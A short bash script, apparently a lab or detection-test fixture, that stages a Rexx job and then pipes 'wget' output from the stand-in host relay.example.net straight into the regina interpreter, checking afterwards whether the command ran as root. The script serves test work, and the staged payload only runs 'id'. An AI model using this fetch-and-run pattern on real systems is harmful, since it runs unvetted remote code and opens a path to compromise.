#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=wget,regina far=out seconds=14 parts=dns,outside-web
# wget gives a program in Rexx to its interpreter over a pipe.
if [ "$1" = out ]; then mkdir -p "$LAB/outside/drop"; printf '%s\n' '/* */' "address system 'id >$LAB/ran; sleep 3'" >"$LAB/outside/drop/job"; sleep 16; exit 0; fi
sleep 2; wget -q -O - http://relay.example.net/drop/job | timeout 10 regina; sleep 1; grep -q uid=0 "$LAB/ran"
